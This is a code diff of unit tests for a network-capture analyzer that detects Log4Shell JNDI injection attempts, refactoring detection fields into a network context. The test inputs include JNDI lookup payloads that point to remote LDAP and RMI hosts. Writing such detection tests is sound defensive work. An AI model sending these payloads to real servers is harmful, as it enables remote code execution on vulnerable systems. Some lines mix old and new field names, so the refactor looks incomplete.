@@ -67,19 +67,22 @@ TEST(CaptureAnalyzer, HttpHeaderSplitAcrossSegmentsOutOfOrder) {
   feed(a);
   CaptureResult r = feed.analyzer.Finish();
   ASSERT_EQ(r.detections.size(), 1u);
-  const NetDetection& d = r.detections[0];
-  EXPECT_EQ(d.field, "header");
-  EXPECT_EQ(d.header, "X-Api-Version");
-  EXPECT_EQ(d.http_method, "GET");
-  EXPECT_EQ(d.http_uri, "/index");
-  EXPECT_EQ(d.http_host, "shop");
-  EXPECT_EQ(d.flow.src_ip, "203.0.113.5");
-  EXPECT_EQ(d.flow.src_port, 40000);
-  EXPECT_EQ(d.flow.dst_ip, "10.0.0.10");
-  EXPECT_EQ(d.flow.dst_port, 8080);
-  EXPECT_EQ(d.frame, 5u);  // the segment that completed the head
-  EXPECT_EQ(d.detection.file, "test.pcap");
-  EXPECT_EQ(d.detection.line, 5u);
+  ASSERT_TRUE(r.detections[0].network.has_value());
+  const hunt::Detection& d = r.detections[0];
+  const hunt::NetworkContext& n = *d.network;
+  EXPECT_EQ(n.field, "header");
+  EXPECT_EQ(n.header, "X-Api-Version");
+  EXPECT_EQ(n.http_method, "GET");
+  EXPECT_EQ(n.http_uri, "/index");
+  EXPECT_EQ(n.http_host, "shop");
+  EXPECT_EQ(n.protocol, "tcp");
+  EXPECT_EQ(n.src_ip, "203.0.113.5");
+  EXPECT_EQ(n.src_port, 40000);
+  EXPECT_EQ(n.dst_ip, "10.0.0.10");
+  EXPECT_EQ(n.dst_port, 8080);
+  EXPECT_EQ(n.frame, 5u);  // the segment that completed the head
+  EXPECT_EQ(d.file, "test.pcap");
+  EXPECT_EQ(d.line, 5u);
   EXPECT_EQ(d.detection.source_ip, "203.0.113.5");
   EXPECT_EQ(d.detection.timestamp.substr(0, 20), "2021-12-08T21:46:40.");
   ASSERT_EQ(d.detection.jndi.size(), 1u);
@@ -99,10 +102,10 @@ TEST(CaptureAnalyzer, ChunkedFormBodyAndKeepAliveRequests) {
   feed(c.C("GET /${jndi:rmi://5.6.7.8:1099/o} HTTP/1.1\r\nHost: a\r\n\r\n"));
   CaptureResult r = feed.analyzer.Finish();
   ASSERT_EQ(r.detections.size(), 2u);
-  EXPECT_EQ(r.detections[0].field, "body");
-  EXPECT_EQ(r.detections[0].http_uri, "/login");
+  EXPECT_EQ(r.detections[0].network->field, "body");
+  EXPECT_EQ(r.detections[0].network->http_uri, "/login");
   EXPECT_EQ(r.detections[0].detection.jndi.at(0).host, "1.2.3.4");
-  EXPECT_EQ(r.detections[1].field, "request_line");
+  EXPECT_EQ(r.detections[1].network->field, "request_line");
   EXPECT_EQ(r.detections[1].detection.jndi.at(0).scheme, "rmi");
 }
 
@@ -114,7 +117,7 @@ TEST(CaptureAnalyzer, BrokenChunkFramingKeepsTheRestOfTheBody) {
   feed(c.FinC());
   CaptureResult r = feed.analyzer.Finish();
   ASSERT_EQ(r.detections.size(), 1u);
-  EXPECT_EQ(r.detections[0].field, "body");
+  EXPECT_EQ(r.detections[0].network->field, "body");
   EXPECT_EQ(r.detections[0].detection.jndi.at(0).host, "9.9.9.9");
 }
 
@@ -126,7 +129,7 @@ TEST(CaptureAnalyzer, BodyCutShortByTheEndOfTheCaptureIsExamined) {
   feed(c.C("POST /x HTTP/1.1\r\nContent-Length: 500\r\n\r\nq=${jndi:ldap://9.9.9.8/c}"));
   CaptureResult r = feed.analyzer.Finish();
   ASSERT_EQ(r.detections.size(), 1u);
-  EXPECT_EQ(r.detections[0].field, "body");
+  EXPECT_EQ(r.detections[0].network->field, "body");
 }
 
 TEST(CaptureAnalyzer, RawTcpAndUdpPayloadsAreExamined) {
@@ -137,11 +140,11 @@ TEST(CaptureAnalyzer, RawTcpAndUdpPayloadsAreExamined) {
   CaptureResult r = feed.analyzer.Finish();
   ASSERT_EQ(r.detections.size(), 2u);
   // SMTP is not HTTP: its lines are examined as they arrive, before the datagram.
-  EXPECT_EQ(r.detections[0].field, "payload");
-  EXPECT_EQ(r.detections[0].flow.protocol, "tcp");
-  EXPECT_EQ(r.detections[0].flow.dst_port, 25);
-  EXPECT_EQ(r.detections[1].flow.protocol, "udp");
-  EXPECT_EQ(r.detections[1].field, "payload");
+  EXPECT_EQ(r.detections[0].network->field, "payload");
+  EXPECT_EQ(r.detections[0].network->protocol, "tcp");
+  EXPECT_EQ(r.detections[0].network->dst_port, 25);
+  EXPECT_EQ(r.detections[1].network->protocol, "udp");
+  EXPECT_EQ(r.detections[1].network->field, "payload");
 }
 
 std::string JndiBind() { return Hex("300c020101600702010304008000"); }
@@ -390,8 +393,8 @@ TEST(CaptureAnalyzer, VxlanMirroredTrafficIsDecapsulated) {
   feed(UdpFrame("172.31.0.5", 55555, "172.31.0.9", 4789, vxlan + inner));
   CaptureResult r = feed.analyzer.Finish();
   ASSERT_EQ(r.detections.size(), 1u);
-  EXPECT_EQ(r.detections[0].flow.src_ip, "203.0.113.5") << "the mirrored packet's addresses, not the tunnel's";
-  EXPECT_EQ(r.detections[0].field, "request_line");
+  EXPECT_EQ(r.detections[0].network->src_ip, "203.0.113.5") << "the mirrored packet's addresses, not the tunnel's";
+  EXPECT_EQ(r.detections[0].network->field, "request_line");
 }
 
 TEST(CaptureAnalyzer, ResponsesAreNotAttempts) {
@@ -404,9 +407,14 @@ TEST(CaptureAnalyzer, ResponsesAreNotAttempts) {
 }
 
 TEST(Correlate, WindowAndDeduplication) {
-  NetDetection d;
-  d.time = 100;
-  d.flow = {"tcp", "203.0.113.5", 40000, "10.0.0.10", 80};
+  hunt::Detection d;
+  d.network.emplace();
+  d.network->time = 100;
+  d.network->protocol = "tcp";
+  d.network->src_ip = "203.0.113.5";
+  d.network->src_port = 40000;
+  d.network->dst_ip = "10.0.0.10";
+  d.network->dst_port = 80;
   hunt::JndiTarget t;
   t.name = "rmi://198.51.100.1:1099/a";
   t.scheme = "rmi";
@@ -414,8 +422,8 @@ TEST(Correlate, WindowAndDeduplication) {
   t.port = 1099;
   t.path = "/a";
   t.remote = true;
-  d.detection.jndi.push_back(t);
-  std::vector<NetDetection> ds{d, d};  // the same payload in two headers
+  d.jndi.push_back(t);
+  std::vector<hunt::Detection> ds{d, d};  // the same payload in two headers
   NetEvent late;
   late.kind = EventKind::kRmiLookup;
   late.time = 100 + 601;
